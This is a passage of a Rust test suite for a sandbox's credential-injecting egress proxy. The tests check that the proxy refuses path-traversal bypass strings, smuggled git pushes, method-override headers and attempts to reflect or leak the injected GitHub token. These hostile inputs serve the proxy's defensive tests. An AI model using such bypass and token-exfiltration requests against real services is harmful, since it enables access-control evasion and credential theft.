        "cd repo && GIT_TERMINAL_PROMPT=0 git push {url} :refs/heads/agent/x; echo rc=$?"
    ));
    assert!(stderr(&r).contains("allow_delete"), "{r}");
    assert!(stdout(&r).ends_with("rc=1\n"), "{r}");
    // Only the allowed push reached git: main does not exist, agent/x still does.
    let heads = std::process::Command::new("git")
        .args(["for-each-ref", "--format=%(refname)"])
        .current_dir(f.sb.outside().join("git/repo.git"))
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&heads.stdout),
        "refs/heads/agent/x\n"
    );
    // A fetch is unaffected.
    let r = f.shell(&format!(
        "GIT_TERMINAL_PROMPT=0 git clone -q {url} cloned -b agent/x && cat cloned/a"
    ));
    assert_eq!(stdout(&r), "one\n", "{r}");
    f.assert_token_nowhere();
}

#[cordon_test::test]
fn an_untrusted_upstream_and_a_pinning_client_fail_with_the_reason() {
    if skipped("credentials_tls_refusals") {
        return;
    }
    let mut f = Fixture::new();
    let r = f.shell(&format!(
        "curl -sS -m 30 https://localhost:{}/",
        f.untrusted.port
    ));
    assert!(stdout(&r).contains("failed TLS verification"), "{r}");
    assert!(stdout(&r).contains("never falls back"), "{r}");
    let c = &connections(&r)[0];
    assert_eq!(
        (c["status"].as_u64(), c["allowed"].as_bool()),
        (Some(502), Some(false)),
        "{c}"
    );
    assert!(f.untrusted.requests().is_empty(), "no request reached it");

    // A client that trusts only the real server's CA (it pins) refuses cordon's leaf.
    let r = f.shell(&format!(
        "curl -sS -m 30 --cacert test-ca.pem https://localhost:{}/user; echo rc=$?",
        f.api.port
    ));
    assert!(stdout(&r).ends_with("rc=60\n"), "{r}");
    let c = &connections(&r)[0];
    assert!(
        c["note"]
            .as_str()
            .unwrap_or_default()
            .contains("the client refused cordon's interception certificate"),
        "{c}"
    );
    f.assert_token_nowhere();
}

#[cordon_test::test]
fn a_host_nobody_names_stays_an_opaque_tunnel() {
    if skipped("credentials_opaque") {
        return;
    }
    let mut f = Fixture::new();
    // The client verifies the server's own certificate against the test CA: only the
    // server's TLS, not cordon's, passes that.
    let r = f.shell(&format!(
        "curl -sS -m 30 --cacert test-ca.pem -H \"Authorization: Bearer $GITHUB_TOKEN\" https://127.0.0.1:{}/echo",
        f.opaque.port
    ));
    assert!(
        stdout(&r).contains("Authorization: Bearer cordon-cred-github-"),
        "{r}"
    );
    let c = &connections(&r)[0];
    assert_eq!(c["method"], "CONNECT", "{c}");
    assert!(c.get("intercepted").is_none(), "{c}");
    // The server got the placeholder, not the real value: nothing was injected.
    let seen = f.opaque.requests();
    assert!(
        seen[0]
            .header("authorization")
            .unwrap()
            .contains(f.placeholder_prefix()),
        "{seen:?}"
    );
    f.assert_token_nowhere();
}

#[cordon_test::test]
fn without_namespaces_credentials_are_unused_and_said_to_be() {
    if skip("credentials_fallback", Need::LandlockSeccomp) {
        return;
    }
    let sb = Sandbox::new();
    let policy = sb.policy(
        "fallback.toml",
        "extends = \"dev\"\n[network]\nproxy = true\nallow_hosts = [\"github.com\"]\n\n\
         [[network.credentials]]\nname = \"github\"\nhosts = [\"github.com\"]\n\
         env = \"GITHUB_TOKEN\"\nfrom_env = \"CORDON_TEST_GH_TOKEN\"\n",
    );
    let env = [
        ("CORDON_SIMULATE_MISSING", "namespaces"),
        (
            "CORDON_TEST_GH_TOKEN",
            "ghp_not_used_without_namespaces_000000",
        ),
    ];
    let mut server = StdioServer::start(sb.ws(), &["--policy", &policy], "", &env);
    let r = server.call(
        "shell_exec",
        json!({ "command": "echo \"[${GITHUB_TOKEN-unset}]\"", "timeout_secs": 30 }),
    );
    assert_eq!(stdout(&r), "[unset]\n", "{r}");
    assert!(!r.to_string().contains("ghp_not_used"), "{r}");
    let doctor = std::process::Command::new(crate::common::CORDON)
        .args(["doctor", "--policy", &policy])
        .envs(env)
        .output()
        .unwrap();
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&doctor.stdout),
        String::from_utf8_lossy(&doctor.stderr)
    );
    assert!(all.contains("[[network.credentials]] are unused"), "{all}");
}

#[cordon_test::test]
fn policy_check_and_explain_describe_every_interception_field_with_examples() {
    let sb = Sandbox::new();
    let roots = sb.outside().join("roots.pem");
    std::fs::write(&roots, TestCa::new("check").pem).unwrap();
    let policy = sb.policy(
        "check.toml",
        &format!(
            r#"extends = "dev"
[network]
proxy = true
allow_hosts = ["github.com", "api.github.com"]
extra_roots = ["{}"]

[[network.credentials]]
name = "github"
hosts = ["github.com", "api.github.com"]
env = "GITHUB_TOKEN"
from_env = "CORDON_TEST_UNSET_TOKEN"
inject = "basic:x-access-token"

[[network.rules]]
host = "api.github.com"
methods = ["GET", "HEAD"]
paths = ["/repos/acme/*", "/user"]

[network.git]
push_refs = ["refs/heads/agent/*"]
"#,
            roots.display()
        ),
    );
    let run = |what: &str| {
        let out = std::process::Command::new(crate::common::CORDON)
            .args(["policy", what, &policy])
            .env_remove("CORDON_TEST_UNSET_TOKEN")
            .output()
            .unwrap();
        assert!(out.status.success(), "policy {what}: {out:?}");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let check = run("check");
    for wanted in [
        "credential `github` (policy line 7 of",
        "NOT set in this environment",
        "goes only to github.com, api.github.com as `basic:x-access-token`",
        "GET /repos/acme/x -> allowed; DELETE /repos/acme/x -> refused (403); GET \
         /cordon-unlisted-example -> refused (403)",
        "push refs/heads/agent/x -> allowed; delete refs/heads/agent/x -> refused; push \
         refs/heads/main -> refused",
        "verified against the system roots and extra_roots",
    ] {
        assert!(check.contains(wanted), "{wanted}:\n{check}");
    }
    assert!(!check.contains("a loopback host"), "{check}");
    let explain = run("explain");
    assert!(
        explain.contains("Every other allowed host stays an opaque tunnel"),
        "{explain}"
    );
    assert!(explain.contains("rule 0 `api.github.com`"), "{explain}");
}

/// Issue 31, item 7: `localhost` inside a call is the call's own loopback, so an egress
/// entry naming it never applies to an ordinary client; `policy check` and `policy explain`
/// say so for each such entry, wherever it is listed, and say how the host's loopback is
/// reached at all.
#[cordon_test::test]
fn policy_check_and_explain_warn_of_every_entry_naming_loopback() {
    let sb = Sandbox::new();
    let policy = sb.policy(
        "loopback.toml",
        r#"extends = "dev"
[network]
proxy = true
allow_hosts = ["github.com", "localhost:8080", "127.0.0.1:9000", "app.localhost"]
deny_hosts = ["[::1]:22"]

[[network.credentials]]
name = "local"
hosts = ["app.localhost"]
env = "LOCAL_TOKEN"
from_env = "CORDON_TEST_UNSET_TOKEN"
inject = "bearer"

[[network.rules]]
host = "localhost:8080"
methods = ["GET"]
"#,
    );
    for what in ["check", "explain"] {
        let out = std::process::Command::new(crate::common::CORDON)
            .args(["policy", what, &policy])
            .env_remove("CORDON_TEST_UNSET_TOKEN")
            .output()
            .unwrap();
        assert!(out.status.success(), "policy {what}: {out:?}");
        let text = String::from_utf8_lossy(&out.stdout);
        let warnings: Vec<&str> = text
            .lines()
            .filter(|l| l.contains("a loopback host"))
            .collect();
        // allow_hosts three times, the credential, the rule; never the deny entry or
        // github.com.
        assert_eq!(warnings.len(), 5, "policy {what}:\n{text}");
        for wanted in [
            "allow_hosts (policy line 4 of",
            "names `localhost:8080`",
            "names `127.0.0.1:9000`",
            "credential `local`",
            "names `app.localhost`",
            "[[network.rules]] rule 1",
        ] {
            assert!(
                warnings.iter().any(|w| w.contains(wanted)),
                "policy {what}: {wanted}:\n{text}"
            );
        }
        assert!(!text.contains("names `[::1]:22`"), "{text}");
        assert!(
            warnings
                .iter()
                .all(|w| w.contains("the call's own loopback") && w.contains("allow_private")),
            "{text}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// Issue 31: one place a secret goes, one spelling a rule judges
// ---------------------------------------------------------------------------------------

/// The refs of the test's bare repository.
fn refs(f: &Fixture) -> String {
    let heads = std::process::Command::new("git")
        .args(["for-each-ref", "--format=%(refname)"])
        .current_dir(f.sb.outside().join("git/repo.git"))
        .output()
        .unwrap();
    String::from_utf8_lossy(&heads.stdout).into_owned()
}

/// A push to `refs/heads/main` made by hand (a command list and a pack), POSTed to a path
/// that `git http-backend` reads as `git-receive-pack` once decoded (`%6B` is `k`), or with
/// the wrong media type: neither gets past `push_refs`. The real backend decodes PATH_INFO
/// as CGI specifies, so the spelled path reaches receive-pack if the proxy lets it through.
#[cordon_test::test]
fn a_push_spelled_another_way_or_without_its_media_type_is_refused() {
    if skipped("credentials_push_spelling") {
        return;
    }
    let mut f = Fixture::new();
    let base = format!("https://localhost:{}/repo.git", f.git.port);
    let r = f.shell(
        "set -e; git init -q repo; cd repo; echo one > a; git add a; \
         git -c user.name=agent -c user.email=a@example.org commit -qm one; \
         python3 -c '\nimport subprocess\nnew = subprocess.check_output([\"git\", \"rev-parse\", \"HEAD\"]).strip()\n\
line = b\"0\" * 40 + b\" \" + new + b\" refs/heads/main\\0 report-status\\n\"\n\
pack = subprocess.check_output([\"git\", \"pack-objects\", \"--stdout\", \"--revs\", \"-q\"], input=new + b\"\\n\")\n\
open(\"../push.bin\", \"wb\").write(b\"%04x\" % (len(line) + 4) + line + b\"0000\" + pack)\n'; echo made",
    );
    assert_eq!(stdout(&r), "made\n", "{r}");
    for (url, content_type, wanted) in [
        (
            format!("{base}/git-receive-pac%6B"),
            "application/x-git-receive-pack-request",
            "is read as `/repo.git/git-receive-pack`",
        ),
        (
            format!("{base}/./git-receive-pack"),
            "application/x-git-receive-pack-request",
            "is read as `/repo.git/git-receive-pack`",
        ),
        (
            format!("{base}/git-receive-pack"),
            "application/octet-stream",
            "Content-Type: application/x-git-receive-pack-request",
        ),
    ] {
        let r = f.shell(&format!(
            "curl -sS -m 30 --path-as-is --data-binary @push.bin -H 'Content-Type: {content_type}' \
             -w '\\nstatus=%{{http_code}}\\n' '{url}'"
        ));
        assert!(stdout(&r).contains(wanted), "{url}: {r}");
        assert!(stdout(&r).ends_with("status=403\n"), "{url}: {r}");
        assert!(refused(&r).iter().any(|l| l.contains(wanted)), "{r}");
        assert_eq!(refs(&f), "", "no ref was created through {url}");
    }
    // The same push, spelled as git spells it, is judged (and refused in git's words).
    let r = f.shell(&format!(
        "curl -sS -m 30 --data-binary @push.bin -H 'Content-Type: \
         application/x-git-receive-pack-request' {base}/git-receive-pack | tr -d '\\0' | \
         grep -ac 'is not in \\[network.git\\] push_refs'"
    ));
    assert_eq!(stdout(&r), "1\n", "{r}");
    assert_eq!(refs(&f), "");
    f.assert_token_nowhere();
}

/// Paths that a rule's glob matches as spelled but a server reads as another path
/// (`..;` for Tomcat, Jetty and Spring; a double-encoded dot; an overlong UTF-8 dot) are
/// refused with the reason, before anything is sent.
#[cordon_test::test]
fn a_path_a_server_reads_as_another_is_refused_under_path_rules() {
    if skipped("credentials_path_spelling") {
        return;
    }
    let mut f = Fixture::new();
    let api = format!("https://localhost:{}", f.api.port);
    for (path, wanted) in [
        ("/public/..;/admin", "is read as `/admin`"),
        ("/public/.;/..;/admin", "is read as `/admin`"),
        ("/public/%252e%252e/admin", "encoded percent sign (%25)"),
        ("/public/%c0%ae%c0%ae/admin", "not UTF-8"),
        ("/public/%2e%2e/admin", "is read as `/admin`"),
        ("/public//x", "is read as `/public/x`"),
    ] {
        let r = f.shell(&format!(
            "curl -sS -m 30 --path-as-is -w '\\nstatus=%{{http_code}}\\n' '{api}{path}'"
        ));
        assert!(stdout(&r).contains(wanted), "{path}: {r}");
        assert!(stdout(&r).ends_with("status=403\n"), "{path}: {r}");
        let c = &connections(&r)[0];
        assert_eq!(c["allowed"], false, "{c}");
    }
    assert!(
        f.api.requests().is_empty(),
        "nothing reached the server: {:?}",
        f.api.requests()
    );
    let r = f.shell(&format!("curl -sS -m 30 {api}/public/x"));
    assert_eq!(stdout(&r), "ok GET /public/x\n", "{r}");
}

/// A method-override header (or `_method`) that a framework would honour is judged as the
/// method it names.
#[cordon_test::test]
fn a_method_override_is_judged_as_the_method_it_names() {
    if skipped("credentials_method_override") {
        return;
    }
    let mut f = Fixture::new();
    let api = format!("https://localhost:{}", f.api.port);
    for (extra, via) in [
        (
            "-H 'X-HTTP-Method-Override: DELETE'",
            "X-HTTP-Method-Override",
        ),
        ("-H 'X-HTTP-Method: delete'", "X-HTTP-Method"),
        ("-H 'X-Method-Override: PUT'", "X-Method-Override"),
    ] {
        let r = f.shell(&format!(
            "curl -sS -m 30 {extra} -w '\\nstatus=%{{http_code}}\\n' {api}/user"
        ));
        assert!(stdout(&r).contains(via), "{extra}: {r}");
        assert!(stdout(&r).contains("is not allowed"), "{extra}: {r}");
        assert!(stdout(&r).ends_with("status=403\n"), "{extra}: {r}");
    }
    let r = f.shell(&format!(
        "curl -sS -m 30 -w '\\nstatus=%{{http_code}}\\n' '{api}/user?_method=DELETE'"
    ));
    assert!(stdout(&r).contains("_method"), "{r}");
    assert!(stdout(&r).ends_with("status=403\n"), "{r}");
    assert!(f.api.requests().is_empty(), "{:?}", f.api.requests());
    // An override naming an allowed method goes on.
    let r = f.shell(&format!(
        "curl -sS -m 30 -H 'X-HTTP-Method-Override: HEAD' {api}/user"
    ));
    assert_eq!(stdout(&r), "ok GET /user\n", "{r}");
}

/// An upstream that answers with a malformed head holding the injected token: the proxy's
/// 502, the connection's note and the audit record describe the fault and quote nothing.
#[cordon_test::test]
fn the_proxys_own_errors_never_quote_an_upstream_byte() {
    if skipped("credentials_upstream_quotes") {
        return;
    }
    let mut f = Fixture::new();
    let api = format!("https://localhost:{}", f.api.port);
    let r = f.shell(&format!(
        "curl -sS -m 30 -H \"Authorization: Bearer $GITHUB_TOKEN\" {api}/reflect/bad-head"
    ));
    assert!(
        stdout(&r).contains("malformed header name, 43 bytes"),
        "{r}"
    );
    let c = &connections(&r)[0];
    assert_eq!(c["status"], 502, "{c}");
    assert!(
        c["note"]
            .as_str()
            .unwrap_or_default()
            .contains("malformed header name, 43 bytes"),
        "{c}"
    );
    let seen = f.api.requests();
    assert_eq!(
        seen.last().unwrap().header("authorization"),
        Some(format!("Bearer {}", f.real).as_str()),
        "the upstream did get the real token to reflect"
    );
    f.assert_token_nowhere();
}

/// A bound host that reflects what it was sent: base64-encoded, gzip-compressed although
/// asked for identity, one byte per chunk, or in halves through `Range`; and a placeholder
/// put anywhere but the credential's own field, which would have been substituted and
/// reflected. None of it brings the real token into the sandbox.
#[cordon_test::test]
fn a_reflecting_bound_host_does_not_bring_the_token_back() {
    if skipped("credentials_reflection") {
        return;
    }
    let mut f = Fixture::new();
    let api = format!("https://localhost:{}", f.api.port);
    let bearer = "-H \"Authorization: Bearer $GITHUB_TOKEN\"";
    // Every output is printed as the sandbox would read it, decoded where it is encoded.
    for command in [
        format!("curl -sS -m 30 {bearer} {api}/reflect/base64 | base64 -d"),
        format!("curl -sS -m 30 {api}/echo | sed -n 's/^Authorization: Basic //p' | base64 -d"),
        format!("curl -sS -m 30 --compressed {bearer} {api}/reflect/gzip"),
        format!("curl -sS -m 30 {bearer} {api}/reflect/chunks"),
        format!(
            "curl -sS -m 30 -r 0-19 {bearer} {api}/reflect/range; \
             curl -sS -m 30 -r 20- {bearer} {api}/reflect/range"
        ),
    ] {
        let r = f.shell(&command);
        assert!(
            !stdout(&r).contains(&f.real),
            "the token came back through `{command}`: {r}"
        );
        // What came back instead: (part of) the placeholder, or the proxy's refusal.
        assert!(
            stdout(&r).contains("cred-github-") || stdout(&r).contains("cordon egress proxy"),
            "{command}: {r}"
        );
    }
    assert!(
        f.api
            .requests()
            .iter()
            .all(|s| s.header("range").is_none() && s.header("if-range").is_none()),
        "Range is not sent with a credential"
    );
    // The gzip answer was refused, not passed on.
    let r = f.shell(&format!(
        "curl -sS -m 30 --compressed {bearer} -w '\\nstatus=%{{http_code}}\\n' {api}/reflect/gzip"
    ));
    assert!(stdout(&r).contains("Content-Encoding"), "{r}");
    assert!(stdout(&r).ends_with("status=502\n"), "{r}");
    // A placeholder outside the credential's field is refused, not substituted.
    let before = f.api.requests().len();
    for (command, place) in [
        (
            format!("curl -sS -m 30 -H \"X-Api-Echo: $GITHUB_TOKEN\" {api}/echo"),
            "the `X-Api-Echo` header",
        ),
        (
            format!("curl -sS -m 30 \"{api}/echo?token=$GITHUB_TOKEN\""),
            "the request target",
        ),
    ] {
        let r = f.shell(&command);
        assert!(stdout(&r).contains(place), "{command}: {r}");
        assert!(
            stdout(&r).contains("only into the `Authorization` header"),
            "{r}"
        );
        assert_eq!(connections(&r)[0]["exfiltration"], "github", "{r}");
    }
    assert_eq!(f.api.requests().len(), before, "nothing was sent");
    f.assert_token_nowhere();
}
